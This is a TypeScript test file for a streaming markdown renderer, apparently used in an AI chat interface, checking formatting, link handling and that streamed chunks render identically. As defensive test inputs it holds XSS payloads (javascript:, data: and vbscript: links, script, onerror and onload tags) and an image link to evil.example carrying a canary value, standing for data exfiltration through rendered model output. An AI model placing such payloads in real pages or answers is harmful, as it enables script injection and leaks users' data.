import fc from 'fast-check'
import { describe, expect, test, vi } from 'vitest'
import { safeHref } from '../links.ts'
import { streamMarkdown } from './stream-markdown.ts'

const TEXTS = { copy: 'Copy', copied: 'Copied', image: 'Image' }

/** Renders in chunks of `size` characters, like a streamed answer. */
function render(text: string, size = text.length) {
  const root = document.createElement('div')
  const stream = streamMarkdown(root, TEXTS)
  for (let at = 0; at < text.length; at += size) stream.write(text.slice(at, at + size))
  stream.end()
  return root
}

describe.each([1, 3, 10_000])('[1.14] markdown in pieces of %i', (size) => {
  test('marks, lists, headings and tables', () => {
    const root = render('# Top\n\nSome **bold** text\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n', size)
    expect(root.querySelector('h2.h1')?.textContent).toBe('Top')
    expect(root.querySelector('h1')).toBeNull()
    expect(root.querySelector('strong')?.textContent).toBe('bold')
    expect(root.querySelectorAll('li')).toHaveLength(2)
    expect(root.querySelector('.table table tbody td')?.textContent).toContain('1')
  })

  test.each([
    'write to lena_berg@example.org today',
    'Per user $/month rises, per team $/year falls.',
    'It costs $5',
    'snake_case_name and `a_b`',
    'ends in a_',
  ])('keeps every character of %s', (text) => {
    const expected = text.replaceAll('`', '')
    expect(render(text, size).textContent).toBe(expected)
  })

  test.each([
    ['read https://example.org/wiki/Bar_(baz).', 'https://example.org/wiki/Bar_(baz)'],
    ['(https://example.org/terms)', 'https://example.org/terms'],
    ['see https://example.org/a, then', 'https://example.org/a'],
    ['**https://example.org/b**', 'https://example.org/b'],
    ['“https://example.org/c”?', 'https://example.org/c'],
  ])('the link of %j ends where the address ends', (text, href) => {
    const root = render(text, size)
    expect(root.querySelector('a')?.getAttribute('href')).toBe(href)
    expect(root.textContent).toBe(text.replaceAll('*', ''))
  })

  test.each(['see [1] and [note]', 'a [b](c d) e', 'cut off [here](https://exam', 'cut off [her', '![nothing] there'])(
    'what is no link stays as it is written: %j',
    (text) => expect(render(text, size).textContent).toBe(text),
  )

  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x]( javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox)',
    '[x](//evil.example)',
    '[x](/relative)',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  ])('%s leads nowhere', (text) => {
    const root = render(`before ${text} after`, size)
    expect(root.textContent).toContain('before')
    expect(root.querySelectorAll('[href],[src]')).toHaveLength(0)
  })

  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg onload=alert(1)>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
  ])('HTML %s is text', (text) => {
    const root = render(text, size)
    expect(root.querySelector('img,script,svg,iframe,a')).toBeNull()
    expect(root.textContent).toContain(text.slice(0, 8))
  })

  test('[1.15] an image becomes a link with its text and fetches nothing', () => {
    const root = render('![a chart](https://evil.example/?d=CANARY)', size)
    expect(root.querySelector('img,[src]')).toBeNull()
    const link = root.querySelector('a')
    expect(link?.textContent).toBe('a chart')
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    expect(render('![](https://evil.example/a.png)', size).querySelector('a')?.textContent).toBe('Image')
  })

  test('an image inside a link does not nest links', () => {
    const root = render('[![alt](https://evil.example/a.png)](https://shop.example)', size)
    expect(root.querySelector('a a, img')).toBeNull()
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://shop.example')
  })

  test('web, mail and phone links open in a new tab without a referrer', () => {
    const root = render('[a](https://a.example/x?y=1) [m](mailto:a@b.example) [t](tel:+49123)', size)
    const links = [...root.querySelectorAll('a')]
    expect(links.map((link) => link.getAttribute('href'))).toEqual([
      'https://a.example/x?y=1',
      'mailto:a@b.example',
      'tel:+49123',
    ])
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank')
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    }
  })

  test('code keeps its text, takes no class from the model and copies', async () => {
    const writeText = vi.fn(() => Promise.resolve())
    vi.stubGlobal('navigator', { clipboard: { writeText } })
    const root = render('```composer\nlet a = "<b>"\n```\n', size)
    const code = root.querySelector('pre code')
    expect(code?.textContent).toBe('let a = "<b>"')
    expect(code?.className).toBe('')
    const button = root.querySelector('button')
    button?.click()
    await vi.waitFor(() => expect(button?.textContent).toBe('Copied'))
    expect(writeText).toHaveBeenCalledWith('let a = "<b>"')
    vi.unstubAllGlobals()
  })
})

const MARKS = /[\s*_~`#>|\\()[\]!.\-+:]/gu
/** The rendered letters, including addresses of links with other texts, numbers of lists and languages of code. */
function lettersOf(root: HTMLElement): string {
  for (const button of root.querySelectorAll('button')) button.remove()
  for (const list of root.querySelectorAll<HTMLOListElement>('ol')) {
    let number = Number(list.getAttribute('start') ?? 1)
    for (const item of list.children) {
      number = Number(item.getAttribute('value') ?? number)
      item.prepend(`${number}`)
      number += 1
    }
  }
  for (const code of root.querySelectorAll<HTMLElement>('pre')) code.prepend(code.dataset.language ?? '')
  for (const link of root.querySelectorAll('a[href]')) {
    // Images without a description get our word for it.
    if (link.textContent === TEXTS.image) link.textContent = ''
    if (link.getAttribute('href') !== link.textContent) link.append(link.getAttribute('href') ?? '')
  }
  return root.textContent.replaceAll(MARKS, '')
}

const WORDS = ['a', 'b', 'ß', '東京', 'سلام', '👩‍👩‍👧', '𝒜', 'x1', '$', '$5', '<', '&', 'é', ', ', ' ', ' ']
const SIGNS = ['\n', '\n\n', '*', '**', '_', '__', '~~', '`', '```', '|', '[', ']', '(', ')', '](', '![', '- ', '# ']
const MORE = ['> ', '\n2. ', '\n1) ', '\n- [x] ', '\n|-|-|\n', '\\', 'https://e.example/', 'h', '. ', '---']

test('no letter is lost, wherever marks are and however the text is split', () => {
  const piece = fc.constantFrom(...WORDS, ...SIGNS, ...MORE)
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 24 }), fc.integer({ min: 1, max: 5 }), (pieces, size) => {
      const text = `a${pieces.join('')}`
      const task = (source: string) => source.replaceAll(/^(\s*(?:(?:[-*+>]|\d+[.)])\s+)*)\[x\]/gm, '$1')
      expect(lettersOf(render(text, size)).replaceAll('x', '')).toBe(
        task(text).replaceAll(MARKS, '').replaceAll('x', ''),
      )
    }),
    { numRuns: 3000 },
  )
})

test('a text without marks is drawn character by character', () => {
  const word = fc.constantFrom(
    ...WORDS,
    'snake_case',
    '2*3',
    '~5',
    '[1]',
    'a_b@c.de',
    'C#',
    '50%',
    '«ä»',
    '!',
    '"',
    "'",
  )
  fc.assert(
    fc.property(fc.array(word, { minLength: 1, maxLength: 24 }), fc.integer({ min: 1, max: 5 }), (words, size) => {
      const text = `a ${words.join(' ')}`.replaceAll(/\s+/g, ' ').trim()
      expect(render(text, size).textContent).toBe(text)
    }),
    { numRuns: 2000 },
  )
})

test('a streamed text looks as if it had come at once', () => {
  const piece = fc.constantFrom(...WORDS, ...SIGNS, ...MORE)
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 24 }), fc.integer({ min: 1, max: 5 }), (pieces, size) => {
      expect(render(pieces.join(''), size).innerHTML).toBe(render(pieces.join('')).innerHTML)
    }),
    { numRuns: 1000 },
  )
})

test.each([
  ['https://a.example', 'https://a.example'],
  ['  http://a.example ', 'http://a.example'],
  ['https:evil', undefined],
  ['java\nscript:alert(1)', undefined],
  ['\u0000javascript:alert(1)', undefined],
])('link target %o', (value, href) => expect(safeHref(value)).toBe(href))
